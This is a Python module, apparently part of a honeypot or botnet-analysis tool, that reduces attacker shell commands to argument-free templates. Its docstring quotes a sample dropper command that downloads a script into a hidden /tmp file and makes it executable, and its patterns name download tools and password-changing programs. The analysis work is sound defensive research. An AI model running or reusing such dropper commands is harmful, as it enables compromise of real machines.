"""A command line without what changes from one victim to the next: a template for each simple command in it.

`wget http://192.0.2.7/a1b2.sh -O /tmp/.x; chmod 777 /tmp/.x` and the same from another server are the same two templates. Read
with one regular expression instead of the grammar, because what botnets send is cut, unquoted and joined by their own bugs, and
because two sessions need to be read alike, not right. Linear in the text.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from functools import lru_cache

MAX_LINE = 8192  # characters of a line that are read
MAX_WORD = 80  # characters of a word that is looked at closely: some patterns take the square of its length
MAX_WORDS = 40  # words of a command that tell it apart
TOKEN = re.compile(r"""\|\||&&|\$\(|[|;&\n()`]|\d?>>?&?\d?|<|(?:[^\s|;&()`<>'"\\]|\\.|'[^']*'?|"(?:[^"\\]|\\.)*"?|\\$)+""", re.DOTALL)
OPERATORS = frozenset(["||", "&&", "$(", "|", ";", "&", "\n", "(", ")", "`"])
PLAIN = str.maketrans("", "", "'\"\\")
URL = re.compile(r"(?:https?|ftp|tftp)://\S+", re.IGNORECASE)
ADDRESS = re.compile(r"(?:\d{1,3}\.){3}\d{1,3}(?:[:/]\S*)?|[0-9a-fA-F]*:[0-9a-fA-F:]*:[0-9a-fA-F:]+")
NUMBER = re.compile(r"[-+]?\d+")
PAYLOAD = re.compile(r"[A-Za-z0-9+/_=-]{24,}|(?=[0-9a-fA-F]*\d)[0-9a-fA-F]{12,}")
CREDENTIAL = re.compile(r"\w+:[^\s/:]+(?:\\n|\n)?")  # what goes to chpasswd
SYSTEM = re.compile(r"/(?:proc|sys|dev(?!/shm)|etc|var/log|bin|sbin|lib|usr/s?bin|home|root)(?:/|$)")
MODE = re.compile(r"0?[0-7]{3,4}|[ugoa]*[-+=][rwxst]+")
SUFFIX = re.compile(r"\.[a-z][a-z0-9]{0,4}$")
RANDOM = re.compile(r"(?=\w*\d)(?=\w*[A-Za-z])\w{8,}|[b-df-hj-np-tv-xz]{4,}\w*|\w*[b-df-hj-np-tv-xz]{5,}\w*", re.IGNORECASE)
SECRETS = frozenset(["passwd", "chpasswd", "openssl", "useradd", "adduser"])  # programs whose arguments are names and passwords
BROUGHT = "<file>"  # the program that a visitor put there himself
FILES = frozenset("chmod chown rm sh bash mv cp touch cat tftp ftpget scp dd tee perl python python3 nohup chattr wget curl".split())


def templates(line: str) -> tuple[str, ...]:
    """The simple commands of a line in their order, each with its varying arguments replaced by their classes."""
    return _templates(line[:MAX_LINE])


def program(template: str) -> str:
    """The program of a template."""
    return template.partition(" ")[0]


def programs(line: str) -> tuple[str, ...]:
    """The programs of its simple commands in their order, by name, what the visitor brought too."""
    return _programs(line[:MAX_LINE])


@lru_cache(maxsize=4096)
def _templates(line: str) -> tuple[str, ...]:
    return tuple(map(_template, _commands(line)))


@lru_cache(maxsize=4096)
def _programs(line: str) -> tuple[str, ...]:
    return tuple(_name(words[0].translate(PLAIN)) for words in _commands(line))


def _commands(line: str) -> Iterator[list[str]]:
    """The words of each simple command."""
    words: list[str] = []
    for token in [*TOKEN.findall(line), ";"]:
        if token not in OPERATORS:
            if words or token.translate(PLAIN).strip():  # what is nothing but quotes calls nothing
                words.append(token)
        elif words:
            yield words
            words = []


def _template(words: list[str]) -> str:
    name = _program(words[0].translate(PLAIN))
    classes = [name]
    target = False
    for word in words[1:MAX_WORDS]:
        text = word.translate(PLAIN)
        kind = " ".join(_class(name, piece) for piece in text.split()) if " " in text else _class(name, text)
        classes.append("<file>" if target and not SYSTEM.match(text) else kind)
        target = word[-1:] == ">"
    return " ".join(classes)


def _program(text: str) -> str:
    if "=" in text:
        return text.partition("=")[0] + "="
    place, _, name = text.rpartition("/")
    if place and not SYSTEM.match(place + "/"):
        return BROUGHT
    return "<data>" if PAYLOAD.fullmatch(name) else name or text  # a directory, for what it is called


def _name(text: str) -> str:
    """What a program is called, wherever it lies."""
    name = _program(text)
    return text.rstrip("/").rpartition("/")[2] if name == BROUGHT else name


def _class(name: str, text: str) -> str:
    if not text.strip("<>&012"):
        return text  # a redirection
    if URL.match(text):
        return "<url>"
    if len(text) > MAX_WORD:
        return "<data>"
    if ADDRESS.fullmatch(text):
        return "<address>"
    if NUMBER.fullmatch(text) and name != "chmod":
        return "<number>"
    if PAYLOAD.fullmatch(text):
        return "<data>"
    if CREDENTIAL.fullmatch(text):
        return "<secret>"
    if name in SECRETS and not text.startswith("-"):
        return "<secret>"
    if text.startswith("-") or (SYSTEM.match(text) and not RANDOM.fullmatch(text.rpartition("/")[2])):
        return text
    if name in FILES or "/" in text:
        suffix = SUFFIX.search(text)
        return text if name == "chmod" and MODE.fullmatch(text) else "<file>" + (suffix[0] if suffix else "")
    return "<random>" if RANDOM.fullmatch(text) else text
